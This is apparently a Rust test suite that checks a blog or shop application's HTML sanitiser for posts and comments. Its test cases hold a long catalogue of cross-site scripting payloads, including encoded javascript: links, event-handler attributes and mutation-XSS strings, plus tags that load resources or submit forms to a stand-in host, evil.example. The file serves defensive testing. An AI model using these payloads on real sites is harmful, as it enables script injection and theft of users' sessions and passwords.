//! 133: HTML of others, through `POST /posts`, and text of others, through comments.

use super::support::{Account, Shop};
use serde_json::json;

/// The content that becomes of `html`, as its readers get it.
#[track_caller]
fn published(shop: &Shop, author: &Account, html: &str) -> String {
    let new = json!({"title": "x", "content": html});
    let written = shop.post("/posts").token(&author.token).json(&new).send().is(201).json();
    let read = shop.get(&format!("/posts/{}", written["id"])).send().is(200).json();
    assert_eq!(read, written);
    read["content"].as_str().expect("a content is a text").to_owned()
}

/// The names of the tags of `html`, which is well-formed.
fn tags(html: &str) -> Vec<&str> {
    let name = |rest: &'_ str| rest.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(rest.len());
    html.split('<').skip(1).map(|rest| rest.trim_start_matches('/')).map(|rest| &rest[..name(rest)]).collect()
}

#[track_caller]
fn has_known_tags(clean: &str) {
    for tag in tags(clean) {
        assert!(["p", "br", "strong", "em", "a"].contains(&tag), "{clean:.1000}");
    }
}

#[track_caller]
fn is_harmless(shop: &Shop, author: &Account, html: &str) {
    let clean = published(shop, author, html);
    has_known_tags(&clean);
    let inside: String = clean.split('<').skip(1).filter_map(|rest| rest.split('>').next()).collect();
    for word in ["onclick", "onerror", "onload", "style", "srcdoc", "href", "id=", "class="] {
        assert!(!inside.contains(word), "{html} became {clean}");
    }
    assert_eq!(published(shop, author, &format!("x{clean}")), format!("x{clean}"), "{html}");
}

#[test]
fn attack_133_no_link_runs_a_script() {
    let shop = Shop::shared();
    let author = shop.newcomer();
    for url in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " \u{1}javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java&Tab;script&colon;alert(1)",
        "&#106;&#97;&#x76;ascript:alert(1)",
        "&#0000106avascript:alert(1)",
        "javascript&#58;alert(1)",
        "java\u{200b}script:alert(1)",
        "vbscript:x",
        "data:text/html;base64,PHNjcmlwdD4=",
        "//evil.example",
        "\\\\evil.example",
        "blob:https://a.example/x",
    ] {
        for quote in ["\"", "'"] {
            is_harmless(shop.as_ref(), &author, &format!("<a href={quote}{url}{quote}>x</a>"));
        }
        is_harmless(&shop, &author, &format!("<svg><a xlink:href=\"{url}\"><text>x</text></a></svg>"));
        is_harmless(&shop, &author, &format!("<math href=\"{url}\">x</math>"));
    }
    let link = published(&shop, &author, "<a rel=opener HREF='https://a.example/?a&b' target=_top>x</a>");
    assert_eq!(link, "<a href=\"https://a.example/?a&amp;b\" rel=\"noopener noreferrer nofollow\">x</a>");
}

#[test]
fn attack_133_what_loads_runs_or_asks_is_stripped() {
    let shop = Shop::shared();
    let author = shop.newcomer();
    for html in [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<SCRIPT/SRC=//evil.example>",
        "<svg/onload=alert(1)>",
        "<svg><script href=data:,alert(1) /></svg>",
        "<svg><style>@import'//evil.example'</style></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
        "<style>*{background:url(//evil.example)}</style>",
        "<p style=\"background:url(//evil.example)\" class=x id=location>x",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<iframe src=javascript:alert(1)>",
        "<object data=//evil.example></object><embed src=//evil.example>",
        "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</form>",
        "<img src=x onerror=alert(1)>",
        "<img src=`x` onerror=alert(1)//`>",
        "<p/onclick=alert(1)>x",
        "<p\u{c}onclick=alert(1)>x",
        "<p \"onclick=alert(1)\">x",
        "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=//evil.example?>",
        "<template><script>alert(1)</script></template>",
        "<textarea></textarea><script>alert(1)</script>",
        "<x-y is=p onclick=alert(1)>x</x-y>",
    ] {
        is_harmless(&shop, &author, html);
    }
}

#[test]
fn attack_133_no_mutation_survives() {
    let shop = Shop::shared();
    let author = shop.newcomer();
    for html in [
        "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<svg><desc><noembed><style><p title=\"</style></noembed><img src=x onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<select><selectedcontent><option><style><img src=x onerror=alert(1)></style>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<table><p><style><td><img src=x onerror=alert(1)></style>",
        "<p><marquee><p>x<button><p>y",
        "&lt;img src=x onerror=alert(1)&gt;",
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;",
        "<plaintext><p>x",
    ] {
        is_harmless(&shop, &author, html);
    }
}

#[test]
fn attack_133_nesting_and_repetition_come_out_as_text_or_small() {
    let shop = Shop::shared();
    let author = shop.newcomer();
    let most = 20_000;
    let filled = |tag: &str| tag.repeat(most / tag.len());
    let unlike: String = (0..400).map(|nth| format!("<em title={nth}>")).collect();
    for html in [
        filled("<p>"),
        filled("<em>"),
        filled("<div>"),
        filled("<table><td>"),
        filled("<svg>"),
        filled("</p>"),
        filled("<"),
        filled("&"),
        filled("<!--"),
        unlike.clone() + &"<p>x".repeat(2000),
        // Each paragraph that ends would have all emphases opened again.
        format!("<p>{unlike}{}", "<p>x".repeat(500)),
        format!("<p {}>", (0..3000).map(|nth| format!("a{nth} ")).collect::<String>()),
    ] {
        let clean = published(&shop, &author, &html);
        has_known_tags(&clean);
        assert!(clean.len() < 10 * most, "{html:.40}");
    }
    // 100,000 tags are longer than a post may be.
    let new = json!({"title": "x", "content": "<p>".repeat(100_000)});
    assert_eq!(shop.post("/posts").token(&author.token).json(&new).send().fields(), ["content"]);
    shop.get("/health").send().is(200);
}

#[test]
fn attack_133_a_comment_has_no_tags_at_all() {
    let shop = Shop::shared();
    let author = shop.newcomer();
    let new = json!({"title": "x", "content": "x"});
    let post = shop.post("/posts").token(&author.token).json(&new).send().is(201).json();
    let comments = format!("/posts/{}/comments", post["id"]);
    for comment in ["<script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onclick='alert(1)", "&lt;script&gt;"] {
        let said = shop.post(&comments).token(&author.token).json(&json!({"comment": comment})).send().is(201).json();
        let text = said["comment"].as_str().expect("a comment is a text");
        assert!(!text.contains(['<', '>', '"', '\'']), "{text}");
        assert_eq!(text.matches('&').count(), comment.matches(['<', '>', '"', '\'', '&']).count(), "{text}");
    }
}
